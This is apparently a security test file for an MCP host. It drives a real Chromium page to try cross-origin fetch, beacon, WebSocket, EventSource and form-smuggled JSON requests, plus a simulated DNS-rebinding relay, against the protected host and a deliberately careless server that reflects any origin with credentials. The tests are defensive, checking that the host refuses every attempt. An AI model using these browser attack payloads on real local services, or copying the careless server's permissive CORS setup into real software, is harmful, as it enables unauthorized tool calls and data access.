/**
 * A page in a real Chromium is the attacker of the face over HTTP. It knows the address of the host, and at places the
 * secret of a session. The same page attacks a server without checks, too, which shows that each attack works.
 */
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdirSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import { connect, createServer as createRelay, type Socket } from 'node:net';
import { join } from 'node:path';
import { expect, onTestFinished } from 'vitest';
import { WebSocketServer } from 'ws';
import { requires } from '../../../../test/needs.ts';
import { CHROMIUM, chromiumOptions } from '../../../../test/packed/chromium.ts';
import { scratch } from '../../test/servers/world.ts';
import { ENVELOPE, world } from '../../test/world.ts';

const test = requires('chromium');

/** Runs in the page: tries everything at one address, and returns what it could read, by the name of the attempt. */
const ATTACK = async ({ url, secret, body }: { url: string; secret: string; body: Record<string, string> }): Promise<Record<string, string>> => {
  const seen: Record<string, string> = {};
  const attempt = async (name: string, act: (body: string) => Promise<unknown>): Promise<void> => {
    try {
      seen[name] = String(await act(body[name] ?? ''));
    } catch {
      seen[name] = 'nothing';
    }
  };
  const read = async (init: RequestInit): Promise<string> => {
    const response = await fetch(url, init);
    return response.type === 'opaque' ? 'nothing' : `${response.status} ${await response.text()}`;
  };
  const json = { 'content-type': 'application/json', accept: 'application/json, text/event-stream' };
  const bearer = { ...json, authorization: `Bearer ${secret}`, 'mcp-protocol-version': '2026-07-28', 'mcp-method': 'tools/call', 'mcp-name': 'write' };
  // A page that was rebound waits until its name leads elsewhere.
  while (url.startsWith(location.origin) && (await fetch(url, { cache: 'no-store' })).headers.has('x-attacker'));
  const post = (text: string, init: RequestInit): RequestInit => ({ method: 'POST', body: text, credentials: 'include', ...init });
  await attempt('fetch with the secret', (text) => read(post(text, { headers: bearer })));
  await attempt('fetch', (text) => read(post(text, { headers: json })));
  await attempt('simple fetch', (text) => read(post(text, {})));
  await attempt('no-cors', (text) => read(post(text, { mode: 'no-cors' })));
  await attempt('get', () => read({ credentials: 'include' }));
  await attempt('beacon', async (text) => { navigator.sendBeacon(url, text); return 'nothing'; }); // biome-ignore format: one line
  await attempt('events', () => new Promise((resolve) => {
    const events = new EventSource(url, { withCredentials: true });
    events.onmessage = ({ data }) => resolve(data);
    events.onerror = () => { events.close(); resolve('nothing'); };
  }));
  await attempt('socket', (text) => new Promise((resolve) => {
    const socket = new WebSocket(url.replace('http', 'ws'), ['hob.1', `hob.secret.${secret}`]);
    let opened = 'nothing';
    socket.onopen = () => { opened = 'it opened'; socket.send(text); };
    socket.onmessage = ({ data }) => resolve(data);
    socket.onerror = () => resolve(opened);
    socket.onclose = () => resolve(opened);
  }));
  await attempt('form', (text) => new Promise((resolve) => {
    const frame = document.createElement('iframe');
    frame.name = url;
    const form = document.createElement('form');
    Object.assign(form, { action: url, method: 'POST', enctype: 'text/plain', target: url });
    const field = document.createElement('input');
    // A form sends NAME=VALUE: the sign in the middle stands in a text of the JSON.
    [field.name, field.value] = [text.slice(0, -2), '"}'];
    form.append(field);
    document.body.append(frame, form);
    frame.onload = () => { try { resolve(frame.contentDocument?.body.textContent || 'nothing'); } catch { resolve('nothing'); } };
    form.submit();
  }));
  return seen;
}; // biome-ignore format: a program of its own

const NAMES = ['fetch with the secret', 'fetch', 'simple fetch', 'no-cors', 'beacon', 'socket', 'form'];
/** A call of the newer era, which needs nothing before it. `name` is the file that it writes. */
const callOf = (name: string): string => {
  const params = { name: 'write', arguments: { cap: 'notes', path: name.replaceAll(' ', '-'), text: 'page' }, _meta: ENVELOPE }; // biome-ignore format: one line
  return JSON.stringify({ jsonrpc: '2.0', id: 1, method: 'tools/call', params, note: '' });
};
const BODY = Object.fromEntries(NAMES.map((name) => [name, callOf(name)]));

interface Target {
  readonly name: string;
  readonly url: string;
  readonly secret: string;
}
const pageOf = (targets: readonly Target[], says: string): string => `<!doctype html><body><script type="module">
const attack = ${ATTACK.toString()};
const said = {};
for (const { name, url, secret } of ${JSON.stringify(targets)}) said[name] = await attack({ url, secret, body: ${JSON.stringify(BODY)} });
await fetch(${JSON.stringify(says)}, { method: 'POST', mode: 'no-cors', body: JSON.stringify(said) });
</script>`;

async function listening(server: Server | ReturnType<typeof createRelay>): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  onTestFinished(async () => {
    if ('closeAllConnections' in server) server.closeAllConnections();
    await new Promise((resolve) => server.close(resolve));
  });
  return (server.address() as { readonly port: number }).port;
}

async function bodyOf(request: AsyncIterable<unknown>): Promise<string> {
  let text = '';
  for await (const part of request) text += part;
  return text;
}

/** A server of MCP without any check. It notes the files of the calls that reached it. */
async function careless(): Promise<{ readonly port: number; readonly reached: string[] }> {
  const reached: string[] = [];
  const take = (text: string): string => {
    const path = /"path":"([^"]*)"/.exec(text)?.[1];
    if (path !== undefined) reached.push(path);
    return 'the data';
  };
  const server = createServer(async (request, response) => {
    const said = request.method === 'POST' ? take(await bodyOf(request)) : 'the data';
    response.setHeader('access-control-allow-origin', request.headers.origin ?? '*');
    response.setHeader('access-control-allow-credentials', 'true');
    response.setHeader('access-control-allow-headers', request.headers['access-control-request-headers'] ?? '');
    response.setHeader('content-type', request.headers.accept === 'text/event-stream' ? 'text/event-stream' : 'text/html'); // biome-ignore format: one line
    response.end(`data: ${said}\n\n`);
  });
  const sockets = new WebSocketServer({ server, handleProtocols: () => 'hob.1' });
  sockets.on('connection', (socket) => socket.on('message', (data) => socket.send(take(String(data)))));
  onTestFinished(() => {
    for (const socket of sockets.clients) socket.terminate();
  });
  return { port: await listening(server), reached };
}

interface Attacker {
  readonly port: number;
  /** The results that the page reported. */
  readonly said: Promise<Record<string, Record<string, string>>>;
  html: string;
  /** The page was sent. */
  served: boolean;
}
async function attacker(): Promise<Attacker> {
  const said = Promise.withResolvers<Record<string, Record<string, string>>>();
  const server = createServer(async (request, response) => {
    response.writeHead(200, { 'content-type': 'text/html', connection: 'close', 'x-attacker': 'yes' });
    if (request.url === '/said') said.resolve(JSON.parse(await bodyOf(request)));
    if (request.url !== '/') return void response.end();
    response.end(made.html, () => { made.served = true; }); // biome-ignore format: one line
  });
  const made: Attacker = { port: await listening(server), said: said.promise, html: '', served: false };
  return made;
}

/** A name that leads to the attacker until its page was sent, and then to another port, as DNS rebinding does. */
async function rebound(evil: Attacker, then: number): Promise<number> {
  const sockets = new Set<Socket>();
  const relay = createRelay((client) => {
    const back = connect(evil.served ? then : evil.port, '127.0.0.1');
    for (const socket of [client, back]) {
      sockets.add(socket);
      socket.on('error', () => {});
      socket.on('close', () => sockets.delete(socket));
    }
    client.pipe(back).pipe(client);
  });
  onTestFinished(() => {
    for (const socket of sockets) socket.destroy();
  });
  return await listening(relay);
}

function open(url: string, ...more: readonly string[]): void {
  const home = join(scratch(), 'home');
  mkdirSync(home);
  const args = [...chromiumOptions(home), ...more, '--remote-debugging-pipe', url];
  const env = { ...process.env, HOME: home, TMPDIR: home };
  // A group of its own, so that all processes of the browser end together.
  const stdio = ['ignore', 'ignore', 'ignore', 'pipe', 'pipe'] as const;
  const browser: ChildProcess = spawn(CHROMIUM, args, { stdio: [...stdio], detached: true, env });
  onTestFinished(async () => {
    const over = once(browser, 'close');
    process.kill(-(browser.pid as number), 'SIGKILL');
    await over;
  });
}

/** The files that a careless server would have written. */
const files = NAMES.map((name) => name.replaceAll(' ', '-')).sort();

test('a page of another origin reads nothing from the face and calls nothing, with the secret or without it', async () => {
  const at = await world();
  await at.grant('notes', 'notes');
  const prey = await careless();
  const evil = await attacker();
  const { secret } = at.session;
  const targets = [
    { name: 'careless', url: `http://127.0.0.1:${prey.port}/mcp`, secret },
    { name: 'hob', url: `${at.url.replace('ws', 'http')}/mcp`, secret },
  ];
  evil.html = pageOf(targets, `http://localhost:${evil.port}/said`);
  open(`http://localhost:${evil.port}/`);
  const { careless: control = {}, hob = {} } = await evil.said;
  // Where each attempt works, it reads the data, or has its effect without reading.
  const blind = ['no-cors', 'beacon', 'form'];
  for (const [name, read] of Object.entries(control))
    expect([name, read]).toEqual([name, blind.includes(name) ? 'nothing' : expect.stringContaining('the data')]);
  expect([...prey.reached].sort()).toEqual(files);
  expect(hob).toEqual(Object.fromEntries(Object.keys(control).map((name) => [name, 'nothing'])));
  for (const file of files) expect(() => at.file(file)).toThrow(/ENOENT/);
  expect([await at.lines('call'), at.host.connections()]).toEqual([[], []]);
});

test('a page whose name was rebound to the address of the host gets 403 for each request, and calls nothing', async () => {
  const at = await world();
  await at.grant('notes', 'notes');
  const prey = await careless();
  const inner = Number(new URL(at.url).port);
  const { secret } = at.session;
  const seen: Record<string, string>[] = [];
  for (const port of [prey.port, inner]) {
    const evil = await attacker();
    // The name and port of the page, which are its origin, are those of the host's door from its second connection on.
    const relay = await rebound(evil, port);
    const url = `http://rebound.example:${port}/mcp`;
    evil.html = pageOf([{ name: 'it', url, secret }], `http://localhost:${evil.port}/said`);
    open(`http://rebound.example:${port}/`, `--host-resolver-rules=MAP rebound.example 127.0.0.1:${relay}`);
    seen.push((await evil.said)['it'] ?? {});
  }
  const [control = {}, hob = {}] = seen;
  for (const [name, read] of Object.entries(control))
    expect([name, read]).toEqual([name, name === 'beacon' ? 'nothing' : expect.stringContaining('the data')]);
  for (const [name, read] of Object.entries(hob))
    expect([name, read]).toEqual([name, expect.stringMatching(/^nothing$|^(403 )?\{"code":"denied"/)]);
  expect(Object.keys(hob)).toEqual(Object.keys(control));
  expect([...prey.reached].sort()).toEqual(files);
  for (const file of files) expect(() => at.file(file)).toThrow(/ENOENT/);
  expect([await at.lines('call'), at.host.connections()]).toEqual([[], []]);
});
